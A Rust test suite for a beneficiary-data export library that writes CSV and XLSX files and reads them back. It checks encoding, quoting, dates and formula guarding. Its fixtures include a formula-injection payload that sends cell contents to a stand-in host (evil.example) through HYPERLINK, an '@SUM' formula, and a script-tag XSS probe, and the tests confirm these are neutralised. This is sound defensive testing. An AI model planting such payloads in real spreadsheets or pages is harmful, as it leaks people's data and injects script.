//! The export formats (sila-export), checked the only way that proves them: written, then read
//! back by the store's own importer (and by calamine for what Excel sees), with hostile and
//! awkward values.

use calamine::{Data, Reader, Xlsx, open_workbook};
use chrono::NaiveDate;
use proptest::prelude::*;
use sila_export::*;
use sila_store::sheet::{Sheet, read_sheet};
use std::fs;
use std::path::Path;

fn date(y: i32, m: u32, d: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(y, m, d).unwrap()
}

fn text(s: &str) -> Cell {
    Cell::Text(s.to_owned())
}

/// The beneficiary export as the store builds it, with hostile and awkward values.
fn beneficiaries() -> Table {
    Table {
        name: "المستفيدون".into(),
        headers: [
            "الاسم الكامل",
            "رقم الهوية",
            "الجوال",
            "تاريخ الميلاد",
            "الجنس",
            "المدينة",
            "الحي",
            "عدد أفراد الأسرة",
            "الدخل الشهري",
            "ملاحظات",
        ]
        .map(String::from)
        .to_vec(),
        rows: vec![
            vec![
                text("محمد عبد الله سعد الدوسري"),
                text("1012345672"),
                text("+966501234567"),
                Cell::Date(date(1990, 1, 31)),
                text("ذكر"),
                text("الرياض"),
                text("النسيم، الشرقي, الجديد"),
                Cell::Int(5),
                text("3500.50"),
                text("0007"),
            ],
            vec![
                text("=HYPERLINK(\"http://evil.example/?\"&A2,\"انقر\")"),
                text("2100000005"),
                Cell::Empty,
                Cell::Empty,
                text("أنثى"),
                text("@SUM(1+1)"),
                text("حي \"الورود\"\nالجديد"),
                Cell::Int(1),
                text("0"),
                text("-12"),
            ],
            vec![
                text("<script>alert(1)</script> نورة"),
                Cell::Empty,
                Cell::Empty,
                Cell::Date(date(1899, 6, 1)),
                Cell::Empty,
                text("'=already quoted"),
                text("+"),
                Cell::Empty,
                Cell::Empty,
            ],
        ],
    }
}

fn imported(sheet: &Sheet) -> Vec<String> {
    sheet
        .rows
        .iter()
        .map(|r| {
            let b = &r.beneficiary;
            format!(
                "{} {}|{}|{}|{}|{}|{}|{}|{}|{}",
                r.row,
                b.name.full(),
                b.national_id.as_ref().map_or("", |i| i.as_str()),
                b.mobile.as_ref().map_or("", |m| m.as_str()),
                b.birth_date.map(|d| d.to_string()).unwrap_or_default(),
                b.gender.map_or("", |g| g.arabic()),
                b.city,
                b.district,
                b.household_size.map(|n| n.to_string()).unwrap_or_default(),
                b.monthly_income_halalas
                    .map(|n| n.to_string())
                    .unwrap_or_default(),
            )
        })
        .collect()
}

fn no_progress() -> impl FnMut(usize, usize) {
    |_, _| {}
}

fn today() -> NaiveDate {
    date(2025, 1, 1)
}

fn files_in(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

#[test]
fn csv_has_bom_crlf_quoting_and_formula_guards() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("out.csv");
    write_csv(&path, &beneficiaries()).unwrap();
    let bytes = fs::read(&path).unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "no byte-order mark");
    let text = std::str::from_utf8(&bytes[3..]).unwrap();
    let lines: Vec<&str> = text.split("\r\n").collect();
    assert_eq!(
        lines[0],
        "الاسم الكامل,رقم الهوية,الجوال,تاريخ الميلاد,الجنس,المدينة,الحي,عدد أفراد الأسرة,الدخل الشهري,ملاحظات"
    );
    assert_eq!(
        lines[1],
        "محمد عبد الله سعد الدوسري,1012345672,'+966501234567,1990-01-31,ذكر,الرياض,\"النسيم، الشرقي, الجديد\",5,3500.50,0007"
    );
    assert_eq!(
        lines[2],
        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"انقر\"\")\",2100000005,,,أنثى,'@SUM(1+1),\"حي \"\"الورود\"\"\nالجديد\",1,0,'-12"
    );
    assert_eq!(
        lines[3],
        "<script>alert(1)</script> نورة,,,1899-06-01,,''=already quoted,'+,,,"
    );
    assert_eq!(lines[4], "", "the file ends with CRLF");
    assert_eq!(
        files_in(dir.path()),
        ["out.csv"],
        "no temporary file left behind"
    );
}

#[test]
fn formula_guard_rules() {
    for (raw, guarded) in [
        ("=1+1", "'=1+1"),
        ("+966501234567", "'+966501234567"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("'x", "'x"),
        ("a=b", "a=b"),
        (" =x", " =x"),
        ("", ""),
        ("محمد", "محمد"),
    ] {
        assert_eq!(guard_formula(raw), guarded, "{raw:?}");
        assert_eq!(strip_formula_guard(guarded), raw, "{guarded:?}");
    }
}

#[test]
fn xlsx_is_right_to_left_with_text_ids_and_real_dates() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("out.xlsx");
    let second = Table {
        name: "الحالات".into(),
        headers: vec!["رقم الحالة".into()],
        rows: vec![vec![text("R1-0001")]],
    };
    write_xlsx(&path, &[beneficiaries(), second]).unwrap();
    assert_eq!(files_in(dir.path()), ["out.xlsx"]);

    let mut workbook: Xlsx<_> = open_workbook(&path).unwrap();
    assert_eq!(workbook.sheet_names(), ["المستفيدون", "الحالات"]);
    let range = workbook.worksheet_range("المستفيدون").unwrap();
    assert_eq!(range.get((0, 0)), Some(&Data::String("الاسم الكامل".into())));
    // IDs, phones and numbers written as text stay strings, so leading zeros and all ten digits survive.
    assert_eq!(range.get((1, 1)), Some(&Data::String("1012345672".into())));
    assert_eq!(
        range.get((1, 2)),
        Some(&Data::String("+966501234567".into()))
    );
    assert_eq!(range.get((1, 9)), Some(&Data::String("0007".into())));
    assert_eq!(range.get((1, 7)), Some(&Data::Float(5.0)));
    // A real Excel date (serial 32904 is 1990-01-31), not text.
    match range.get((1, 3)) {
        Some(Data::DateTime(dt)) => assert_eq!(dt.as_f64(), 32904.0),
        other => panic!("not a date: {other:?}"),
    }
    // Excel has no 1899 dates; that one is kept as ISO text.
    assert_eq!(range.get((3, 3)), Some(&Data::String("1899-06-01".into())));
    // A formula-looking name is stored as plain text, unguarded, and no cell holds a formula.
    assert_eq!(
        range.get((2, 0)),
        Some(&Data::String(
            "=HYPERLINK(\"http://evil.example/?\"&A2,\"انقر\")".into()
        ))
    );
    let formulas = workbook.worksheet_formula("المستفيدون").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "a formula was written"
    );
    // The right-to-left flag (`rightToLeft="1"` in xl/worksheets/sheet1.xml) is not checked
    // here: the archive is deflated and this crate has no zip reader of its own.
}

#[test]
fn export_then_import_gives_back_the_same_beneficiaries() {
    let dir = tempfile::tempdir().unwrap();
    let expect = [
        "2 محمد عبد الله سعد الدوسري|1012345672|+966501234567|1990-01-31|ذكر|الرياض|النسيم، الشرقي, الجديد|5|350050",
        "3 =HYPERLINK(\"http://evil.example/?\"&A2,\"انقر\")|2100000005|||أنثى|@SUM(1+1)|حي \"الورود\"\nالجديد|1|0",
        "4 <script>alert(1)</script> نورة|||1899-06-01||'=already quoted|+||",
    ];
    let csv = dir.path().join("b.csv");
    write_csv(&csv, &beneficiaries()).unwrap();
    let sheet = read_sheet(&csv, today(), &mut no_progress()).unwrap();
    assert_eq!(imported(&sheet), expect, "{:?}", sheet.rejected);

    let xlsx = dir.path().join("b.xlsx");
    write_xlsx(&xlsx, &[beneficiaries()]).unwrap();
    let sheet = read_sheet(&xlsx, today(), &mut no_progress()).unwrap();
    assert_eq!(imported(&sheet), expect, "{:?}", sheet.rejected);
}

#[test]
fn a_failed_export_leaves_the_previous_file_and_no_debris() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("out.xlsx");
    fs::write(&path, b"previous export").unwrap();
    let too_long = Table {
        name: "x".into(),
        headers: vec!["h".into()],
        rows: vec![vec![Cell::Text("ا".repeat(40_000))]],
    };
    let err = write_xlsx(&path, &[too_long]).unwrap_err();
    assert_eq!(err.code(), "xlsx");
    assert_eq!(fs::read(&path).unwrap(), b"previous export");
    assert_eq!(files_in(dir.path()), ["out.xlsx"]);

    // A missing directory is an IO error, before anything is written anywhere.
    let nowhere = dir.path().join("missing").join("out.csv");
    assert_eq!(
        write_csv(&nowhere, &beneficiaries()).unwrap_err().code(),
        "io"
    );
    // A directory in the way of the final rename: the temporary file is cleaned up.
    let blocked = dir.path().join("blocked.csv");
    fs::create_dir(&blocked).unwrap();
    fs::write(blocked.join("keep"), b"").unwrap();
    assert_eq!(
        write_csv(&blocked, &beneficiaries()).unwrap_err().code(),
        "io"
    );
    assert_eq!(files_in(dir.path()), ["blocked.csv", "out.xlsx"]);
    // A successful export replaces the old file whole.
    write_csv(&path, &beneficiaries()).unwrap();
    assert!(fs::read(&path).unwrap().starts_with(b"\xEF\xBB\xBF"));
}

proptest! {
    #[test]
    fn guard_then_strip_is_identity(s in any::<String>()) {
        let guarded = guard_formula(&s);
        prop_assert!(!guarded.starts_with(FORMULA_TRIGGERS));
        prop_assert_eq!(strip_formula_guard(&guarded), s.as_str());
    }

    #[test]
    fn any_name_round_trips_through_csv(name in "ف([a-zب-ي0-9 =+@'\",;\n-]{0,30}) [ب-ي]+") {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("n.csv");
        let table = Table { name: "n".into(), headers: vec!["الاسم الكامل".into()], rows: vec![vec![Cell::Text(name.clone())]] };
        write_csv(&path, &table).unwrap();
        let sheet = read_sheet(&path, today(), &mut no_progress()).unwrap();
        prop_assert_eq!(sheet.rows.len(), 1, "{:?}", sheet.rejected);
        prop_assert_eq!(sheet.rows[0].beneficiary.name.full(), name.trim());
    }
}
